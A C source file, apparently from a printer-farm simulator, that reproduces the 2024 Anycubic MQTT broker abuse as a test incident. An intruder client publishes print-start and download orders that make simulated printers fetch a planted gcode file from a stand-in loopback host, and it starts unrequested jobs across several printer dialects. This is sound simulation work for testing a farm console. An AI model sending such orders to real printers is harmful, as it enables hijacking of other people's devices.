/* sim-incident.c: the attack switch, and the farm's inventory
 *
 * The incident is made by a client that is not Drover, the way the 2024
 * Anycubic broker abuse was: a stranger's MQTT client orders printers to
 * fetch a file from a server that is not the farm's. Where a dialect has
 * no MQTT path for the order (Moonraker and OctoPrint take uploads over
 * HTTP, Bambu over FTPS), the file arrives as that upload would, and what
 * the broker shows is what the real program then publishes about it.
 *
 * The readme incident on a farm with Anycubic printers on its broker is the
 * 2024 one itself (shared/reference/bambu-anycubic.md B6): it reaches the
 * Anycubic printers only. The stranger's client (`mqttx_…`) orders K of
 * them to `print`/`start` a `url` on a web server of its own, with
 * `filename` `hacked_machine_readme.gcode`; each printer fetches it over
 * HTTP. Anycubic counted 237 printers affected of over 2,000 that received
 * it, so only a share of the victims store the file
 * (SimFarmOptions.incident_store_percent, 12 by default in drover-sim):
 * the stranger's server, swamped, answers the others 503 and their
 * downloads fail, which they report. Which victims store it is drawn from
 * the farm's seed alone, so a seed gives the same victims and the same
 * storers whenever the incident comes. With a share above 0, at least one
 * victim stores it, so that a small demo farm shows the planted file.
 * Anycubic printers in LAN mode are brokers of their own, which the
 * stranger on the farm's broker does not reach.
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */

#include "config.h"

#include <libsoup/soup.h>
#include <string.h>

#include "sim-farm.h"
#include "sim-gcode.h"

#define README_NAME   "hacked_machine_readme.gcode"
#define GCODE_NAME    "firmware_fix.gcode"
#define INTRUDER_HOST "http://127.0.0.2:8000"

static SimMqtt *intruder;

/* The stranger's web server for the Anycubic readme: the device ids it
 * answers, and where it listens. */
static SoupServer *readme_server;
static GHashTable *readme_storers;
static char *readme_base;

static void
intruder_message_cb (const char *topic,
                     GBytes     *payload,
                     gboolean    retained,
                     gpointer    user_data)
{
}

/**
 * sim_farm_prepare_intruder:
 *
 * Connects the stranger's client ahead of time, so that its orders go out
 * the moment the incident is due.
 */
void
sim_farm_prepare_intruder (SimFarm *farm)
{
  const SimFarmOptions *options = sim_farm_get_options (farm);
  SimMqttOptions mqtt = { 0 };
  g_autofree char *client_id = g_strdup_printf ("mqttx_%08x", g_rand_int (sim_farm_get_rand (farm)));

  if (intruder != NULL)
    return;

  mqtt.uri = options->broker_uri;
  mqtt.client_id = client_id;
  mqtt.username = options->username;
  mqtt.password = options->password;
  mqtt.ca_file = options->ca_file;
  mqtt.mqtt5 = options->mqtt5;
  mqtt.keepalive = 30;
  intruder = sim_mqtt_new (&mqtt, intruder_message_cb, NULL, NULL, NULL);
}

void
sim_farm_release_intruder (void)
{
  g_clear_pointer (&intruder, sim_mqtt_free);
  if (readme_server != NULL)
    soup_server_disconnect (readme_server);
  g_clear_object (&readme_server);
  g_clear_pointer (&readme_storers, g_hash_table_unref);
  g_clear_pointer (&readme_base, g_free);
}

static gboolean
intruder_publish (const char *topic,
                  const char *payload)
{
  return intruder != NULL && sim_mqtt_publish (intruder, topic, payload, -1, 1, FALSE);
}

static void
readme_request_cb (SoupServer        *server,
                   SoupServerMessage *message,
                   const char        *path,
                   GHashTable        *query,
                   gpointer           user_data)
{
  const char *device = query != NULL ? g_hash_table_lookup (query, "d") : NULL;
  g_autoptr(GBytes) text = sim_gcode_incident_readme ();

  if (!g_str_equal (path, "/message.txt"))
    {
      soup_server_message_set_status (message, SOUP_STATUS_NOT_FOUND, NULL);
      return;
    }

  if (device == NULL || readme_storers == NULL || !g_hash_table_contains (readme_storers, device))
    {
      soup_server_message_set_status (message, SOUP_STATUS_SERVICE_UNAVAILABLE, NULL);
      return;
    }

  soup_server_message_set_status (message, SOUP_STATUS_OK, NULL);
  soup_server_message_set_response (message, "text/plain", SOUP_MEMORY_COPY,
                                    g_bytes_get_data (text, NULL), g_bytes_get_size (text));
}

/*
 * start_readme_server:
 *
 * The stranger's server, not the farm's: on 127.0.0.9, another address of
 * the loopback network (on Linux the whole 127.0.0.0/8 answers), so that
 * the URL's host differs from the farm's own 127.0.0.1; where 127.0.0.9
 * cannot be bound, on 127.0.0.1 and a port of its own.
 */
static gboolean
start_readme_server (void)
{
  static const char * const hosts[] = { "127.0.0.9", "127.0.0.1" };
  g_autoptr(SoupServer) server = NULL;
  GSList *uris;

  if (readme_server != NULL)
    return TRUE;

  server = soup_server_new (NULL, NULL);
  soup_server_add_handler (server, NULL, readme_request_cb, NULL, NULL);

  for (guint i = 0; i < G_N_ELEMENTS (hosts); i++)
    {
      g_autoptr(GInetAddress) address = g_inet_address_new_from_string (hosts[i]);
      g_autoptr(GSocketAddress) socket_address = g_inet_socket_address_new (address, 0);

      if (soup_server_listen (server, socket_address, 0, NULL))
        break;
    }

  uris = soup_server_get_uris (server);
  if (uris == NULL)
    return FALSE;

  readme_base = g_uri_to_string_partial (uris->data, G_URI_HIDE_PASSWORD);
  /* "http://127.0.0.9:PORT/" → "http://127.0.0.9:PORT" */
  if (g_str_has_suffix (readme_base, "/"))
    readme_base[strlen (readme_base) - 1] = '\0';
  g_slist_free_full (uris, (GDestroyNotify)g_uri_unref);

  readme_storers = g_hash_table_new_full (g_str_hash, g_str_equal, g_free, NULL);
  readme_server = g_steal_pointer (&server);
  return TRUE;
}

static char *
anycubic_order_topic (SimPrinter *printer,
                      const char *type,
                      const char *action)
{
  /* kobra-unleashed's command topic: …/server/printer/<model>/<id>/<type>/<action> */
  return g_strdup_printf ("anycubic/anycubicCloud/v1/server/printer/%u/%s/%s/%s",
                          printer->model_id, printer->serial, type, action);
}

static char *
anycubic_order (const char *type,
                const char *action,
                const char *data_json)
{
  g_autofree char *msgid = g_uuid_string_random ();

  return g_strdup_printf ("{\"type\":\"%s\",\"action\":\"%s\",\"msgid\":\"%s\",\"timestamp\":%" G_GINT64_FORMAT
                          ",\"data\":%s}",
                          type, action, msgid, g_get_real_time () / 1000, data_json);
}

/* How many of @n_victims store the file: the share, rounded, and at least
 * one when the share is above 0. */
static guint
count_storers (guint n_victims,
               guint percent)
{
  guint n;

  percent = MIN (percent, 100);
  if (n_victims == 0 || percent == 0)
    return 0;

  n = (n_victims * percent + 50) / 100;
  return CLAMP (n, 1, n_victims);
}

/*
 * anycubic_readme:
 *
 * The 2024 incident on the farm's Anycubic printers: see the top of the file.
 */
static guint
anycubic_readme (SimFarm   *farm,
                 guint      n_printers,
                 GPtrArray *victims)
{
  const SimFarmOptions *options = sim_farm_get_options (farm);
  GPtrArray *printers = sim_farm_get_printers (farm);
  g_autoptr(GPtrArray) reached = g_ptr_array_new ();
  g_autoptr(GBytes) text = sim_gcode_incident_readme ();
  g_autofree char *md5 = g_compute_checksum_for_bytes (G_CHECKSUM_MD5, text);
  g_autofree guint *order = NULL;
  GRand *rand;
  guint n_store;

  if (!start_readme_server ())
    return 0;

  for (guint i = 0; i < printers->len && reached->len < n_printers; i++)
    {
      SimPrinter *printer = g_ptr_array_index (printers, i);

      if (printer->dialect == SIM_DIALECT_ANYCUBIC && printer->state != SIM_STATE_OFFLINE)
        g_ptr_array_add (reached, printer);
    }

  /* The storers: a partial shuffle with dice of their own, seeded by the
   * farm's seed only. */
  n_store = count_storers (reached->len, options->incident_store_percent);
  order = g_new (guint, MAX (reached->len, 1));
  for (guint i = 0; i < reached->len; i++)
    order[i] = i;
  rand = g_rand_new_with_seed (options->seed ^ 0x20240227u);
  for (guint i = 0; i < n_store; i++)
    {
      guint j = (guint)g_rand_int_range (rand, (gint32)i, (gint32)reached->len);
      guint swap = order[i];

      order[i] = order[j];
      order[j] = swap;
      g_hash_table_add (readme_storers, g_strdup (((SimPrinter *)reached->pdata[order[i]])->serial));
    }
  g_rand_free (rand);

  for (guint i = 0; i < reached->len; i++)
    {
      SimPrinter *printer = g_ptr_array_index (reached, i);
      g_autofree char *topic = anycubic_order_topic (printer, "print", "start");
      g_autofree char *url = g_strdup_printf ("%s/message.txt?d=%s", readme_base, printer->serial);
      g_autofree char *url_json = sim_json_string (url);
      g_autofree char *data = g_strdup_printf ("{\"taskid\":\"%d\",\"url\":%s,\"filename\":\"" README_NAME "\","
                                               "\"md5\":\"%s\",\"filesize\":%" G_GSIZE_FORMAT ",\"filetype\":0,"
                                               "\"task_mode\":1}",
                                               g_random_int_range (1, 1000000), url_json, md5, g_bytes_get_size (text));
      g_autofree char *payload = anycubic_order ("print", "start", data);

      if (!intruder_publish (topic, payload) &&
          g_hash_table_contains (readme_storers, printer->serial))
        sim_printer_add_file (printer, README_NAME, text);

      if (victims != NULL)
        g_ptr_array_add (victims, g_strdup (printer->id));
    }

  return reached->len;
}

static gboolean
has_anycubic_on_broker (SimFarm *farm)
{
  GPtrArray *printers = sim_farm_get_printers (farm);

  for (guint i = 0; i < printers->len; i++)
    if (((SimPrinter *)printers->pdata[i])->dialect == SIM_DIALECT_ANYCUBIC)
      return TRUE;

  return FALSE;
}

static void
plant (SimPrinter      *printer,
       SimIncidentKind  kind)
{
  const char *name = kind == SIM_INCIDENT_README ? README_NAME : GCODE_NAME;
  const char *source = kind == SIM_INCIDENT_README ? INTRUDER_HOST "/message.txt" : INTRUDER_HOST "/" GCODE_NAME;
  g_autoptr(GBytes) content = kind == SIM_INCIDENT_README ? sim_gcode_incident_readme () : sim_gcode_incident_gcode ();

  if (printer->dialect == SIM_DIALECT_NATIVE && printer->broker_uri == NULL)
    {
      g_autofree char *topic = g_strconcat ("drover/v1/", printer->id, "/cmd", NULL);
      g_autofree char *uuid = g_uuid_string_random ();
      g_autofree char *payload = g_strdup_printf ("{\"v\":1,\"id\":\"%s\",\"command\":\"download\",\"url\":\"%s\",\"file\":\"%s\"}",
                                                  uuid, source, name);

      if (intruder_publish (topic, payload))
        return;
    }

  sim_printer_add_file (printer, name, content);
}

static void
start_unasked (SimPrinter *printer)
{
  SimFile *file;

  if (printer->files->len == 0 || sim_printer_is_busy (printer))
    return;

  file = g_ptr_array_index (printer->files, printer->files->len - 1);

  if (printer->dialect == SIM_DIALECT_MOONRAKER)
    {
      g_autofree char *topic = g_strconcat (printer->id, "/moonraker/api/request", NULL);
      g_autofree char *name = sim_json_string (file->name);
      g_autofree char *payload = g_strdup_printf ("{\"jsonrpc\":\"2.0\",\"method\":\"printer.print.start\","
                                                  "\"params\":{\"filename\":%s,\"mqtt_timestamp\":%" G_GINT64_FORMAT "},\"id\":%u}",
                                                  name, g_get_real_time (), g_random_int_range (1, 100000));

      if (intruder_publish (topic, payload))
        return;
    }
  else if (printer->dialect == SIM_DIALECT_NATIVE)
    {
      g_autofree char *topic = g_strconcat ("drover/v1/", printer->id, "/cmd", NULL);
      g_autofree char *name = sim_json_string (file->name);
      g_autofree char *uuid = g_uuid_string_random ();
      g_autofree char *payload = g_strdup_printf ("{\"v\":1,\"id\":\"%s\",\"command\":\"start\",\"file\":%s}", uuid, name);

      if (intruder_publish (topic, payload))
        return;
    }
  else if (printer->dialect == SIM_DIALECT_ANYCUBIC)
    {
      g_autofree char *topic = anycubic_order_topic (printer, "print", "start");
      g_autofree char *name = sim_json_string (file->name);
      g_autofree char *data = g_strdup_printf ("{\"filename\":%s,\"filepath\":\"/\",\"taskid\":\"%d\","
                                               "\"task_mode\":1,\"filetype\":1}",
                                               name, g_random_int_range (1, 1000000));
      g_autofree char *payload = anycubic_order ("print", "start", data);

      if (intruder_publish (topic, payload))
        return;
    }
  else if (printer->dialect == SIM_DIALECT_BAMBU && printer->broker_uri == NULL)
    {
      g_autofree char *topic = g_strconcat ("device/", printer->serial, "/request", NULL);
      g_autofree char *name = sim_json_string (file->name);
      g_autofree char *url = g_strconcat ("file:///sdcard/", file->name, NULL);
      g_autofree char *url_json = sim_json_string (url);
      g_autofree char *payload = g_strdup_printf ("{\"print\":{\"sequence_id\":\"0\",\"command\":\"project_file\","
                                                  "\"param\":\"Metadata/plate_1.gcode\",\"url\":%s,\"subtask_name\":%s,"
                                                  "\"use_ams\":false}}",
                                                  url_json, name);

      if (intruder_publish (topic, payload))
        return;
    }

  sim_printer_start_job (printer, file->name, NULL);
}

/**
 * sim_farm_incident:
 * @kind: what the stranger does
 * @n_printers: to how many printers
 * @victims: (nullable): filled with the ids of the printers it reached
 *
 * Picks @n_printers online printers on the broker, spread over the farm,
 * and does it to them.
 *
 * Returns: how many printers it reached
 */
guint
sim_farm_incident (SimFarm         *farm,
                   SimIncidentKind  kind,
                   guint            n_printers,
                   GPtrArray       *victims)
{
  GPtrArray *printers = sim_farm_get_printers (farm);
  guint reached = 0;

  sim_farm_prepare_intruder (farm);

  if (kind == SIM_INCIDENT_README && has_anycubic_on_broker (farm))
    return anycubic_readme (farm, n_printers, victims);

  for (guint i = 0; i < printers->len && reached < n_printers; i++)
    {
      SimPrinter *printer = g_ptr_array_index (printers, i);

      if (printer->klass == NULL || printer->state == SIM_STATE_OFFLINE)
        continue;

      if (kind == SIM_INCIDENT_PRINT)
        {
          if (sim_printer_is_busy (printer))
            continue;
          start_unasked (printer);
        }
      else
        plant (printer, kind);

      if (victims != NULL)
        g_ptr_array_add (victims, g_strdup (printer->id));
      reached++;
    }

  return reached;
}

/**
 * sim_farm_dup_inventory:
 *
 * Describes the farm as a key file: the broker, then a group per printer
 * with what a console needs to reach it.
 *
 * Returns: (transfer full): the key file's text
 */
char *
sim_farm_dup_inventory (SimFarm *farm)
{
  g_autoptr(GKeyFile) key_file = g_key_file_new ();
  const SimFarmOptions *options = sim_farm_get_options (farm);
  GPtrArray *printers = sim_farm_get_printers (farm);

  g_key_file_set_string (key_file, "broker farm", "uri", options->broker_uri);
  g_key_file_set_string (key_file, "broker farm", "mqtt-version", options->mqtt5 ? "5" : "3.1.1");
  if (options->username != NULL)
    g_key_file_set_string (key_file, "broker farm", "username", options->username);

  for (guint i = 0; i < printers->len; i++)
    {
      SimPrinter *printer = g_ptr_array_index (printers, i);
      g_autofree char *group = g_strconcat ("printer ", printer->id, NULL);

      g_key_file_set_string (key_file, group, "name", printer->name);
      g_key_file_set_string (key_file, group, "connector", sim_dialect_get_connector (printer->dialect));

      switch (printer->dialect)
        {
        case SIM_DIALECT_NATIVE:
          g_key_file_set_string (key_file, group, "broker", "farm");
          g_key_file_set_string (key_file, group, "topic-prefix", "drover/v1/");
          break;

        case SIM_DIALECT_MOONRAKER:
          g_key_file_set_string (key_file, group, "broker", "farm");
          g_key_file_set_string (key_file, group, "instance", printer->id);
          break;

        case SIM_DIALECT_OCTOPRINT:
          {
            g_autofree char *base = g_strconcat ("octoPrint/", printer->id, "/", NULL);

            g_key_file_set_string (key_file, group, "broker", "farm");
            g_key_file_set_string (key_file, group, "base-topic", base);
          }
          break;

        case SIM_DIALECT_BAMBU:
          g_key_file_set_string (key_file, group, "serial", printer->serial);
          if (printer->broker_uri != NULL)
            {
              g_key_file_set_string (key_file, group, "uri", printer->broker_uri);
              g_key_file_set_string (key_file, group, "ca-file", printer->ca_file);
              g_key_file_set_string (key_file, group, "access-code", printer->access_code);
            }
          else
            g_key_file_set_string (key_file, group, "broker", "farm");
          break;

        case SIM_DIALECT_ANYCUBIC:
        case SIM_DIALECT_ANYCUBIC_LAN:
          g_key_file_set_string (key_file, group, "device-id", printer->serial);
          /* Commands go to …/<model>/<id>/…: Drover needs the model too. */
          g_key_file_set_integer (key_file, group, "model-id", (gint)printer->model_id);
          if (printer->broker_uri != NULL)
            {
              /* LAN mode: the printer is its own broker, with the account
               * of device_account.json; the password as the demo writes a
               * Bambu access code (docs/inventory.md). */
              g_key_file_set_string (key_file, group, "uri", printer->broker_uri);
              if (printer->ca_file != NULL)
                g_key_file_set_string (key_file, group, "ca-file", printer->ca_file);
              g_key_file_set_string (key_file, group, "username", printer->username);
              g_key_file_set_string (key_file, group, "access-code", printer->access_code);
            }
          else
            g_key_file_set_string (key_file, group, "broker", "farm");
          break;

        case SIM_DIALECT_SERIAL:
        case SIM_N_DIALECTS:
        default:
          break;
        }

      if ((printer->dialect == SIM_DIALECT_MOONRAKER || printer->dialect == SIM_DIALECT_OCTOPRINT) &&
          options->http_base != NULL)
        {
          g_autofree char *url = g_strconcat (options->http_base, "/", printer->id, NULL);

          g_key_file_set_string (key_file, group, "http", url);
          g_key_file_set_string (key_file, group, "api-key", printer->api_key);
        }
    }

  return g_key_file_to_data (key_file, NULL, NULL);
}
